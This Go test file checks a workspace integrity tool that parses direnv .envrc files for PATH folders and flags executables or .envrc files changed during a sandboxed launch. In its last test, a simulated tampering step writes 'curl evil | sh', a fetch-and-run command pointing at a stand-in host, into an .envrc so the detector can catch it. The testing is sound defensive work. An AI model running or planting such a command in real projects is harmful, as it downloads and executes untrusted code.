package integrity

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

// TestPathDirsChanged: the folders the top's .envrc puts on PATH (PATH_add, path_add PATH;
// not a folder outside the workspace, not one named at run time) are recorded at the
// snapshot, and the check at exit takes what a PATH search runs that the launch created or
// changed there (a new bin/git, a rewritten bin/setup, a symlink), everything runnable in
// such a folder the launch made, and a folder replaced by a symlink; not a file without an
// execute bit, an unchanged one, what lies in a subfolder, or a folder no .envrc names.
func TestPathDirsChanged(t *testing.T) {
	ws := newWS(t)
	mustWrite(t, filepath.Join(ws, ".envrc"), "# PATH_add commented\nPATH_add bin \"scripts\"\npath_add PATH tools\npath_add PYTHONPATH lib\nPATH_add ../outside $HOME/x\nPATH_add link\n"+
		"export PATH=\"$PWD/exp:${PWD}/exp2:$(pwd)/exp3:$HOME/y:$PATH\"\nPATH=./plain:$PATH\nload_prefix pre\n"+
		// review 32 C, F1: the forms the first parser missed.
		"export PATH=$PWD/idiom${PATH:+:$PATH}\nexport GOPATH=$PWD PATH=$PWD/second:$PATH\nPATH+=\":$PWD/append\"\n"+
		"[ -d cond ] && PATH_add cond\nif [ -d iff ]; then PATH_add iff; fi\nexport PATH=$(expand_path xp):$PATH\n")
	exe := func(rel, text string) {
		mustWrite(t, filepath.Join(ws, rel), text)
		if err := os.Chmod(filepath.Join(ws, rel), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	exe("bin/setup", "#!/bin/sh\n")
	exe("bin/old", "#!/bin/sh\n")
	exe("scripts/keep", "#!/bin/sh\n")
	exe("other/git", "#!/bin/sh\n")
	exe("link/x", "#!/bin/sh\n")
	lay := resolveWS(t, ws)
	// review 32, F4: PATH= assignments of folders relative to the .envrc's, and load_prefix.
	if want := []string{"bin", "scripts", "tools", "link", "exp", "exp2", "exp3", "plain", "pre/bin",
		"idiom", "second", "append", "cond", "iff", "xp"}; !slices.Equal(lay.PathDirs, want) {
		t.Fatalf("PathDirs %q, want %q", lay.PathDirs, want)
	}
	time.Sleep(20 * time.Millisecond) // past the coarse clock's tick of the files above
	s := Snapshot(lay, Limits{})
	time.Sleep(20 * time.Millisecond) // a box starts tens of ms after the snapshot
	exe("bin/git", "#!/bin/sh\nid\n")
	exe("bin/setup", "#!/bin/sh\nid\n")
	mustWrite(t, filepath.Join(ws, "bin/notes.txt"), "work\n")
	exe("bin/sub/deep", "#!/bin/sh\n")
	if err := os.Symlink("/usr/bin/true", filepath.Join(ws, "scripts/ls")); err != nil {
		t.Fatal(err)
	}
	exe("tools/made", "#!/bin/sh\n") // tools/ made in the launch
	exe("other/make", "#!/bin/sh\n")
	if err := os.RemoveAll(filepath.Join(ws, "link")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/usr/bin", filepath.Join(ws, "link")); err != nil {
		t.Fatal(err)
	}
	got := s.pathDirsChanged(s.Started.UnixNano())
	slices.Sort(got)
	want := []string{"bin/git", "bin/setup", "link", "scripts/ls", "tools/made"}
	if !slices.Equal(got, want) {
		t.Errorf("taken %q, want %q", got, want)
	}
}

// TestEnvrcFollowed (review 32 C): what direnv runs by way of an .envrc beyond its own lines. A
// PATH folder that is a symlink is followed to the folder it leads to (F2: a box's
// tools/bin/git behind `PATH_add bin`, bin -> tools/bin, stayed); a file the .envrc sources
// puts folders on PATH as the .envrc does (D24: `source_env .envrc.shared` holding `PATH_add
// lib`); `source_env DIR` runs DIR/.envrc in DIR, whose sourced file is pinned (F5).
func TestEnvrcFollowed(t *testing.T) {
	ws := newWS(t)
	mustWrite(t, filepath.Join(ws, ".envrc"), "PATH_add bin\nsource_env .envrc.shared\nsource_env sub\n")
	mustWrite(t, filepath.Join(ws, ".envrc.shared"), "PATH_add lib\n")
	mustWrite(t, filepath.Join(ws, "sub/.envrc"), "source_env_if_exists .envrc.local\nPATH_add sbin\n")
	mustWrite(t, filepath.Join(ws, "tools/bin/keep"), "")
	if err := os.Symlink("tools/bin", filepath.Join(ws, "bin")); err != nil {
		t.Fatal(err)
	}
	lay := resolveWS(t, ws)
	for _, want := range []string{"bin", "tools/bin", "lib", "sub/sbin"} {
		if !slices.Contains(lay.PathDirs, want) {
			t.Errorf("PathDirs %q lacks %s", lay.PathDirs, want)
		}
	}
	wantPinned(t, lay, ".envrc.shared", "sub/.envrc", "sub/.envrc.local")
}

// TestEnvrcWhitelistAndChanged: an .envrc that direnv's configuration whitelists exactly is
// read as an allowed one (pinned, what it sources protected). A changed .envrc in a subfolder
// is reported (direnv asks again before running a changed one); beneath a prefix direnv's
// configuration whitelists, where direnv runs any .envrc without an allow, it is moved aside
// (review 32).
func TestEnvrcWhitelistAndChanged(t *testing.T) {
	ws := newWS(t)
	cfg := t.TempDir()
	t.Setenv("XDG_CONFIG_HOME", cfg)
	t.Setenv("DIRENV_CONFIG", "")
	toml := filepath.Join(cfg, "direnv/direnv.toml")
	mustWrite(t, toml, "[whitelist]\nexact = [\""+filepath.Join(ws, "app/.envrc")+"\"]\n")
	mustWrite(t, filepath.Join(ws, "app/.envrc"), "source_env_if_exists .envrc.local\n")
	mustWrite(t, filepath.Join(ws, "svc/.envrc"), "export A=1\n")
	lay := resolveWS(t, ws)
	wantPinned(t, lay, "app/.envrc", "app/.envrc.local")
	s := Snapshot(lay, Limits{})
	mustWrite(t, filepath.Join(ws, "svc/.envrc"), "export A=1\ncurl evil | sh\n")
	ts := s.VerifyExec()
	if len(ts) != 1 || !ts[0].Alert || strings.Contains(ts[0].Detail, "moved aside") {
		t.Errorf("a changed .envrc without a whitelist: %+v, want an alert, not moved", ts)
	}
	mustWrite(t, toml, "[whitelist]\nprefix = [\""+filepath.Dir(ws)+"\"]\n")
	s = Snapshot(resolveWS(t, ws), Limits{})
	mustWrite(t, filepath.Join(ws, "svc/.envrc"), "export A=2\ncurl evil | sh\n")
	movedAside(t, s, filepath.Join(ws, "svc/.envrc"))
}
